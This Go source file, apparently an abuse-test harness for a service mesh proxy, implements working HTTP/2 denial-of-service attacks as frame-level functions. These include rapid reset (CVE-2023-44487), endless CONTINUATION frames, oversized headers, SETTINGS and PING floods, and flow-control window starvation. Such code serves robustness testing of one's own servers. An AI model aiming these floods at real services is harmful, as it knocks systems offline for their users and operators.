package abuse

import (
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// peer is a hostile proxy that speaks HTTP/2 with a certificate of the mesh.
type peer struct {
	*http2.Framer
	blocks strings.Builder
	enc    *hpack.Encoder
	where  string // leno-link
}

// linked makes an attack of frames. What the other side says is read and
// dropped, unless the attacker is deaf.
func linked(where string, deaf bool, settings []http2.Setting, do func(p *peer) error) attack {
	return func(c net.Conn) error {
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return err
		}
		if !deaf {
			go io.Copy(io.Discard, c) // ends with the connection
		}
		p := &peer{Framer: http2.NewFramer(c, nil), where: where}
		p.AllowIllegalWrites = true
		p.enc = hpack.NewEncoder(&p.blocks)
		if err := p.WriteSettings(settings...); err != nil {
			return err
		}
		return do(p)
	}
}

// head is the block of a request, with more fields.
func (p *peer) head(more ...hpack.HeaderField) []byte {
	p.blocks.Reset()
	fields := append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "app.shop"},
		{Name: ":path", Value: "/"},
		{Name: "leno-link", Value: p.where},
	}, more...)
	for _, f := range fields {
		_ = p.enc.WriteField(f)
	}
	return []byte(p.blocks.String())
}

func (p *peer) open(id uint32, end bool) error {
	return p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.head(), EndHeaders: true, EndStream: end})
}

// rapidReset opens streams and takes them back at once (CVE-2023-44487).
func rapidReset(p *peer) error {
	for id := uint32(1); ; id += 2 {
		if err := p.open(id, true); err != nil {
			return err
		}
		if err := p.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
		if id%512 == 1 {
			time.Sleep(pace)
		}
	}
}

// continuations sends a head that never ends.
func continuations(p *peer) error {
	err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.head()})
	for err == nil {
		err = p.WriteContinuation(1, false, []byte("\x00\x01a\x01b"))
	}
	return err
}

// hugeHead sends heads over every limit.
func hugeHead(p *peer) error {
	for id := uint32(1); ; id += 2 {
		block := p.head(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 100<<10)})
		first := block[:16<<10]
		rest := block[16<<10:]
		err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first})
		for err == nil && len(rest) > 0 {
			n := min(len(rest), 16<<10)
			err = p.WriteContinuation(id, n == len(rest), rest[:n])
			rest = rest[n:]
		}
		if err != nil {
			return err
		}
		time.Sleep(pace)
	}
}

func settingsFlood(p *peer) error {
	for {
		if err := p.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0}); err != nil {
			return err
		}
	}
}

func pingFlood(p *peer) error {
	for {
		if err := p.WritePing(false, [8]byte{}); err != nil {
			return err
		}
	}
}

func emptyData(p *peer) error {
	err := p.open(1, false)
	for err == nil {
		err = p.WriteData(1, false, nil)
	}
	return err
}

// shutWindow asks for many answers and never lets them come, on a link that
// is alive otherwise.
func shutWindow(p *peer) error {
	for id := uint32(1); id < 400; id += 2 {
		if err := p.open(id, false); err != nil {
			return err
		}
		if err := p.WriteData(id, true, make([]byte, 8<<10)); err != nil {
			return err
		}
	}
	return lively(p)
}

// tinyWindow lets answers come byte by byte.
func tinyWindow(p *peer) error {
	if err := shutSome(p); err != nil {
		return err
	}
	for n := 0; ; n++ {
		if err := p.WriteWindowUpdate(uint32(2*(n%50)+1), 1); err != nil {
			return err
		}
		time.Sleep(pace)
	}
}

func shutSome(p *peer) error {
	for id := uint32(1); id < 100; id += 2 {
		if err := p.open(id, false); err != nil {
			return err
		}
		if err := p.WriteData(id, true, make([]byte, 4<<10)); err != nil {
			return err
		}
	}
	return nil
}

// slowStreams begins bodies and lets them wait.
func slowStreams(p *peer) error {
	for id := uint32(1); id < 400; id += 2 {
		if err := p.open(id, false); err != nil {
			return err
		}
	}
	return lively(p)
}

func lively(p *peer) error {
	for {
		time.Sleep(50 * pace)
		if err := p.WritePing(false, [8]byte{1}); err != nil {
			return err
		}
	}
}
